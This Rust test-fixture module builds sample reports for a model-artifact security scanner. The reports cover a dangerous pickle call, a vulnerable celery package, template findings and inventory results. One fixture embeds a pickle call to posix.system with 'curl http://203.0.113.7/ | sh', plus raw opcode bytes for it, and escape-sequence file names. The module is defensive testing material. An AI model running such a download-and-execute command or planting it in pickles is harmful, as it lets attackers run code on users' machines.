//! Reports for the tests of this room: one of each thing that a document has to say.

use serde_json::json;

use crate::model::{
    AdvisoryMatch, Algorithm, Artifact, ArtifactPath, Assurance, Call, Check, Class, Contents, Digest, Ecosystem, Epss,
    Evidence, Exception, Excerpt, Finding, Format, Input, Judgement, Package, PackageSource, Place, PolicyId, Purl,
    Report, Rule, Ruling, Severity, Tensor, Tool, Verdict,
};

macro_rules! rules {
    ($($name:ident $id:literal $severity:ident $class:ident $summary:literal $frameworks:expr;)*) => {
        $(pub(super) static $name: Rule = Rule {
            id: $id,
            summary: $summary,
            severity: Severity::$severity,
            class: Class::$class,
            page: concat!(
                "# ", $id, "\n", $summary, "\n\n| formats | default | since | frameworks |\n|---|---|---|---|\n",
                "| any | medium | 0.1.0 | - |\n\n## What was seen\nThis.\n\n## Why it matters\nIt runs.\n\n",
                "## What to do\nDo not load it.\n\n## When it is fine\nNever.\n\n## References\nNone.\n"
            ),
            frameworks: $frameworks,
        };)*
        pub(super) static RULES: &[&Rule] = &[$(&$name),*];
    };
}

rules! {
    CALL "pickle-dangerous-call" Critical Defect "loading the pickle calls something that runs code"
        &["CWE-502", "AML.T0011.000", "LLM03:2025"];
    VULNERABLE "vulnerable-package" Medium Defect "a locked package is affected by a published advisory"
        &["CWE-1395", "AML.T0010.001", "LLM03:2025"];
    TEMPLATE "chat-template-call" High Defect "a chat template calls what a template has no need of" &["CWE-1336"];
    LIMIT "limit-reached" Medium Gap "a limit on inspection was reached" &["CWE-770", "CWE-409"];
    DIGEST "digest-match" Info Assurance "the digest is the one that the manifest lists" &[];
    SIGNATURE "signature-valid" Info Assurance "a trusted key signed exactly these files" &[];
    TENSORS "tensor-count" Info Inventory "tensors that the file holds" &[];
    HOSTED "hosted-service" Info Inventory "the tree speaks to a hosted AI service" &["CWE-1357"];
}

pub(super) fn rule(id: &str) -> Option<&'static Rule> {
    RULES.iter().copied().find(|rule| rule.id == id)
}

fn sha256(byte: u8) -> Digest {
    Digest::new(Algorithm::Sha256, &[byte; 32]).unwrap()
}

fn artifact(path: &str, size: u64, formats: &[&'static str], seed: u8) -> Artifact {
    Artifact {
        path: ArtifactPath::new(path),
        size,
        digests: [sha256(seed), Digest::new(Algorithm::Sha512, &[seed; 64]).unwrap()].into_iter().collect(),
        shards: Vec::new(),
        formats: formats.iter().map(|name| Format::named(name)).collect(),
        contents: Contents::default(),
        kept: None,
    }
}

fn tensor(name: &str, dtype: &str, shape: &[u64], start: u64, len: u64) -> Tensor {
    Tensor { name: name.to_owned(), dtype: dtype.to_owned(), shape: shape.to_vec(), bytes: Some(start..start + len) }
}

pub(super) fn pickle() -> Artifact {
    let mut pickle = artifact("pytorch_model.bin", 4_718_592, &["zip", "pickle"], 0xaa);
    let at = |start, end| Place::Entry { name: "archive/data.pkl".to_owned(), start, end };
    pickle.contents.calls = vec![
        Call {
            place: at(0, 40),
            callable: "collections.OrderedDict".to_owned(),
            arguments: Some("()".to_owned()),
            judgement: Judgement::Safe,
        },
        Call {
            place: at(2, 16),
            callable: "posix.system".to_owned(),
            arguments: Some("('curl http://203.0.113.7/\u{1b}[2J | sh',)".to_owned()),
            judgement: Judgement::Dangerous,
        },
        Call {
            place: at(90, 110),
            callable: "my_package.Thing".to_owned(),
            arguments: None,
            judgement: Judgement::Unknown,
        },
    ];
    pickle
}

const README: &str = "---\nlicense: apache-2.0\nlanguage:\n- en\n- de\nlibrary_name: transformers\n\
pipeline_tag: text-classification\nbase_model: google-bert/bert-base-uncased\ndatasets:\n- allenai/c4\n\
- squad\ntags: [bert, demo]\n---\n# Demo\n\nA demo model for tests.\n\n## Limitations\n\nToy only.\n";

const CONFIG: &str = r#"{"architectures": ["BertForSequenceClassification"], "model_type": "bert",
 "hidden_size": 768, "num_hidden_layers": 12, "vocab_size": 30522, "torch_dtype": "bfloat16"}"#;

fn artifacts() -> Vec<Artifact> {
    let mut readme = artifact("README.md", README.len() as u64, &[], 1);
    readme.kept = Some(README.as_bytes().to_vec());
    let mut config = artifact("config.json", CONFIG.len() as u64, &["json"], 2);
    config.kept = Some(CONFIG.as_bytes().to_vec());
    let mut weights = artifact("model-00001-of-00001.safetensors", 1_288_490_189, &["safetensors"], 3);
    weights.contents.tensors = vec![
        tensor("embeddings.weight", "BF16", &[30_522, 768], 0, 46_881_792),
        tensor("encoder.layer.0.query\u{202e}.weight", "BF16", &[768, 768], 46_881_792, 1_179_648),
        tensor("scale", "F32", &[], 48_061_440, 4),
    ];
    weights.contents.metadata.insert("format".to_owned(), "pt".to_owned());
    vec![
        readme,
        config,
        artifact("evil\u{1b}[31m\nname.txt", 12, &[], 4),
        weights,
        pickle(),
        artifact("uv.lock", 81_234, &["uv-lock"], 5),
    ]
}

fn package(name: &str, version: &str, dependencies: &[&str]) -> Package {
    Package {
        name: name.to_owned(),
        version: version.to_owned(),
        ecosystem: Ecosystem::PyPI,
        purl: Purl::new(format!("pkg:pypi/{name}@{version}")),
        source: PackageSource::PublicRegistry,
        checksums: vec![sha256(0x50), sha256(0x51)],
        lockfile: ArtifactPath::new("uv.lock"),
        line: Some(12),
        dependencies: dependencies.iter().map(|purl| Purl::new(*purl)).collect(),
    }
}

fn advisory() -> AdvisoryMatch {
    AdvisoryMatch {
        id: "PYSEC-2021-439".to_owned(),
        aliases: vec!["CVE-2021-23727".to_owned(), "GHSA-q4xr-rc97-m4xx".to_owned()],
        title: "Command injection through task metadata".to_owned(),
        cvss: Some("CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:H/I:H/A:H".to_owned()),
        url: Some("https://osv.dev/vulnerability/PYSEC-2021-439".to_owned()),
        published: Some("2021-12-29".to_owned()),
        modified: Some("2024-11-21".to_owned()),
        epss: Some(Epss { score: 0.0125, percentile: 0.85 }),
        exploited: None,
        fixed: vec![">=5.2.2".to_owned()],
        name: "celery".to_owned(),
        version: "5.2.1".to_owned(),
        upgrade: Some("5.2.2".to_owned()),
        direct: Some(true),
        ecosystem: Ecosystem::PyPI,
        purl: Purl::new("pkg:pypi/celery@5.2.1"),
        paths: vec![vec!["app 0.1.0".to_owned(), "celery 5.2.1".to_owned()]],
    }
}

fn bad_news() -> Vec<Finding> {
    let found = |evidence: Evidence, ruling| Finding { severity: evidence.severity(), evidence, ruling };
    let bytes = b"\x80\x02cposix\nsystem\nX\x13\x00\x00\x00curl http://203.0.113.7/".to_vec();
    let pickle = ArtifactPath::new("pytorch_model.bin");
    let mut vulnerable = Evidence::new(&VULNERABLE, "celery 5.2.1 is affected by PYSEC-2021-439")
        .of(&ArtifactPath::new("uv.lock"))
        .at(Place::Package { purl: Purl::new("pkg:pypi/celery@5.2.1"), line: Some(12) })
        .known_by(Assurance::Derived)
        .rated(Severity::High);
    vulnerable.advisory = Some(Box::new(advisory()));
    let template = Evidence::new(&TEMPLATE, "the template reads `__class__`")
        .of(&ArtifactPath::new("config.json"))
        .at(Place::Line { line: 1, column: 7 });
    let leave = Exception {
        reason: "rendered in a sandbox without network".to_owned(),
        owner: "jane@acme.example".to_owned(),
        until: Some("2026-12-31".to_owned()),
        not_affected: None,
    };
    vec![
        found(
            Evidence::new(&CALL, "loading it calls `posix.system` with ('curl http://203.0.113.7/\u{1b}[2J | sh',)")
                .of(&pickle)
                .at(Place::Entry { name: "archive/data.pkl".to_owned(), start: 2, end: 16 })
                .with("callable", "posix.system")
                .with("arguments", json!(["curl http://203.0.113.7/\u{1b}[2J | sh"]))
                .showing(Some(Excerpt { start: 0, bytes, marked: 2..16 })),
            Ruling::Fail,
        ),
        found(vulnerable, Ruling::Warn),
        found(template, Ruling::Excused(leave)),
        found(
            Evidence::new(&LIMIT, "inspection stopped: more than 6 nesting")
                .of(&pickle)
                .at(Place::Entry { name: "archive/x.zip".to_owned(), start: 0, end: 100 })
                .with("limit", "nesting")
                .with("value", 6),
            Ruling::Unknown,
        ),
    ]
}

fn good_news() -> Vec<Finding> {
    let mut good: Vec<Finding> = artifacts()
        .iter()
        .take(3)
        .map(|artifact| Evidence::new(&DIGEST, "its digest is the one in SHA256SUMS").of(&artifact.path))
        .map(|evidence| Finding { evidence, severity: Severity::Info, ruling: Ruling::Ok })
        .collect();
    let signature = Evidence::new(&SIGNATURE, "the key release.pub signed 6 files, and all are as signed")
        .of(&ArtifactPath::new("model.sig"))
        .with("key", "release.pub");
    let tensors = Evidence::new(&TENSORS, "3 tensors")
        .of(&ArtifactPath::new("model-00001-of-00001.safetensors"))
        .at(Place::Tensor { name: "scale".to_owned() })
        .known_by(Assurance::Derived);
    let by_package = Evidence::new(&HOSTED, "kombu speaks to Mistral AI")
        .of(&ArtifactPath::new("uv.lock"))
        .at(Place::Package { purl: Purl::new("pkg:pypi/kombu@5.2.4"), line: Some(12) })
        .known_by(Assurance::Derived)
        .with("operator", "mistral")
        .with("operator-name", "Mistral AI")
        .with("jurisdiction", "FR");
    let by_address = Evidence::new(&HOSTED, "llm.{zone}.somewhere.dev is set as the address of a service")
        .of(&ArtifactPath::new("config.json"))
        .at(Place::Line { line: 2, column: 1 })
        .with("host", "llm.{zone}.somewhere.dev")
        .with("transport", "http")
        .with("encrypted", false);
    for evidence in [signature, tensors, by_package, by_address] {
        good.push(Finding { evidence, severity: Severity::Info, ruling: Ruling::Ok });
    }
    good
}

/// A model with a bad pickle, a vulnerable package, an excused finding, a gap and good news.
pub(super) fn report() -> Report {
    let mut findings = bad_news();
    findings.extend(good_news());
    findings.sort_by(|a, b| a.evidence.sort_key().cmp(&b.evidence.sort_key()));
    Report {
        subject: "demo-model".to_owned(),
        root: Some(sha256(0xee)),
        checks: Check::ALL.to_vec(),
        artifacts: artifacts(),
        packages: vec![package("celery", "5.2.1", &["pkg:pypi/kombu@5.2.4"]), package("kombu", "5.2.4", &[])],
        findings,
        verdict: Verdict::Fail,
        policy: PolicyId { name: "development".to_owned(), digest: sha256(0xdd).to_string() },
        not_required: vec!["a signature by a trusted key".to_owned(), "a complete SBOM".to_owned()],
        not_assessed: vec![
            "what the weights were trained on".to_owned(),
            "whether the weights hold a backdoor".to_owned(),
        ],
        inputs: vec![Input {
            role: "advisory-database".to_owned(),
            name: "osv-pypi".to_owned(),
            digest: Some(sha256(0xcc).to_string()),
        }],
        tool: Tool { name: "weighbridge".to_owned(), version: "0.1.0".to_owned() },
    }
}

/// The same model without what is wrong with it.
pub(super) fn clean() -> Report {
    let mut report = report();
    report.artifacts.retain(|artifact| artifact.contents.calls.is_empty());
    report.findings = good_news();
    report.verdict = Verdict::Pass;
    report
}

/// A source tree of one file without anything else.
pub(super) fn bare() -> Report {
    let mut report = clean();
    report.artifacts.truncate(0);
    report.artifacts.push(artifact(".", 12, &[], 9));
    report.packages.clear();
    report.findings.clear();
    report.inputs.clear();
    report.root = None;
    report
}

/// Holds a document in `tests/interop/samples/`, which the official validators read, to what is written now; with
/// UPDATE=1 it is written anew.
pub(super) fn published(name: &str, text: &str) {
    let file = format!("{}/tests/interop/samples/{name}", env!("CARGO_MANIFEST_DIR"));
    if std::env::var_os("UPDATE").is_some() {
        std::fs::write(file, text).unwrap();
    } else {
        assert!(std::fs::read_to_string(file).unwrap() == text, "run the tests with UPDATE=1 to write {name} anew");
    }
}
